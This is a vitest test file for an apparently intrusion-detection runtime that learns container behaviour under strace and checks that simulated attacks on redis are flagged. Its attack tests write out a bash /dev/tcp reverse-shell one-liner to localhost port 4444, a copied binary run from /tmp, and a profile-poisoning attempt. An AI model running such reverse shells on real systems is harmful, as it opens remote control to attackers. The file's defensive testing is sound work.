import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import process from 'node:process'
import {
  type ApprovedProfile,
  type BehaviourFinding,
  createJudge,
  findMissingCoverage,
} from '@sallyport/runtime/behaviour'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { learnImage, learnRun, observes, saturationOf } from './learn-image.ts'
import { openWatchedImage, type WatchedImage, type WatchOptions } from './watched-image.ts'

const normalRuns = Number(process.env['SALLYPORT_BEHAVIOUR_RUNS'] ?? 20)
let directory: string
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'sallyport-behaviour-'))
})
afterAll(() => rm(directory, { recursive: true, force: true }))

async function judgeRun(watched: WatchedImage, profile: ApprovedProfile, options?: WatchOptions) {
  const judge = createJudge(profile, { image: watched.digest, observes })
  const findings: BehaviourFinding[] = []
  for await (const event of watched.watch(options)) findings.push(...judge.take(event))
  return { findings, status: judge.status() }
}
const codesOf = (findings: readonly BehaviourFinding[]) =>
  findings.map(({ code, subject }) => `${code} ${subject}`)
const anyOf = (findings: readonly BehaviourFinding[]) => findings.map(({ message }) => message)

describe.each(['redis', 'nginx', 'static'] as const)('the image %s under strace', (name) => {
  let watched: WatchedImage
  let profile: ApprovedProfile
  beforeAll(async () => {
    watched = await openWatchedImage(name, directory)
    profile = await learnImage(watched)
  })
  afterAll(() => watched?.[Symbol.asyncDispose]())

  it('is learned without gaps, from files of the image alone', () => {
    expect(findMissingCoverage(profile, saturationOf(watched))).toEqual([])
    expect(profile.refused).toEqual([])
    expect(profile.runs.every(({ gaps, events }) => gaps === 0 && events > 50)).toBe(true)
    expect(profile.execs.length).toBeGreaterThan(0)
    expect(profile.listens.length).toBeGreaterThan(0)
  })

  it(`raises nothing in ${normalRuns} runs of its normal load`, async () => {
    const alarms: string[] = []
    for (let run = 0; run < normalRuns; run++) {
      const { findings, status } = await judgeRun(watched, profile)
      alarms.push(...anyOf(findings))
      if (findings.length === 0)
        expect(status).toMatchObject({ state: 'expected', verdict: 'pass', unknown: [] })
    }
    expect(alarms).toEqual([])
  })
})

describe('an attack on redis under strace', () => {
  let watched: WatchedImage
  let profile: ApprovedProfile
  beforeAll(async () => {
    watched = await openWatchedImage('redis', directory)
    profile = await learnImage(watched)
  })
  afterAll(() => watched?.[Symbol.asyncDispose]())

  it('by a reverse shell is told three ways', async () => {
    const attack = 'exec 3<>/dev/tcp/127.0.0.1/4444; sh <&3 >&3 2>&1; true'
    const { findings, status } = await judgeRun(watched, profile, {
      more: [{ exec: ['bash', '-c', attack] }],
      peer: listener(4444, String.raw`id\nexit\n`),
    })
    expect(status).toMatchObject({ state: 'deviating', verdict: 'fail' })
    const codes = codesOf(findings)
    expect(codes).toContain('new-endpoint tcp 127.0.0.1:4444')
    expect(codes).toContain('new-executable /usr/bin/bash')
    const shell = findings.find(({ code }) => code === 'network-shell')
    expect(shell).toMatchObject({ grade: 'critical', event: { type: 'exec' } })
    expect(shell?.parents[0]).toMatchObject({ executable: '/usr/bin/bash' })
    // What was typed into it.
    expect(codes).toContain('new-executable /usr/bin/id')
  })

  it('by a new binary is told', async () => {
    const { findings, status } = await judgeRun(watched, profile, {
      more: [{ exec: ['sh', '-c', 'cp /usr/bin/id /tmp/helper && /tmp/helper'] }],
    })
    expect(status.verdict).toBe('fail')
    expect(findings.find(({ subject }) => subject === '/tmp/helper')).toBeDefined()
    expect(codesOf(findings)).toContain('new-executable /tmp/helper')
  })

  it('by a known program that speaks to a new endpoint is told, and nothing else', async () => {
    const { findings, status } = await judgeRun(watched, profile, {
      more: [{ exec: ['redis-cli', '-h', '127.0.0.2', '-p', '9999', 'PING'] }],
      peer: listener(9999, String.raw`+PONG\r\n`),
    })
    expect(status.verdict).toBe('fail')
    expect(codesOf(findings.filter(({ grade }) => grade !== 'low'))).toEqual([
      'new-endpoint tcp 127.0.0.2:9999',
    ])
  })

  it('while it is learned does not enter the profile', async () => {
    const learned = await learnRun(watched, 'poisoned', {
      more: [
        {
          exec: [
            'sh',
            '-c',
            'cp /usr/bin/bash /tmp/helper && /tmp/helper -c "exec 3<>/dev/tcp/127.0.0.1/4444; id; true"',
          ],
        },
      ],
      peer: listener(4444, 'hello'),
    })
    expect(learned.refused).toContainEqual(
      expect.objectContaining({ path: '/tmp/helper', reason: 'not-in-image' }),
    )
    expect(learned.refused).toContainEqual(
      expect.objectContaining({ path: '/usr/bin/id', reason: 'descendant' }),
    )
    expect(learned.execs.map(({ path }) => path)).not.toContain('/usr/bin/id')
    expect(learned.connects.map(({ port }) => port)).not.toContain(4444)
  })
})

/** Waits for connections to all of the machine's addresses, says a line and listens on. */
const listener = (port: number, line: string) =>
  `require('net').createServer((socket) => { socket.on('error', () => {}); socket.resume(); socket.write('${line}') }).listen(${port}, '0.0.0.0')`
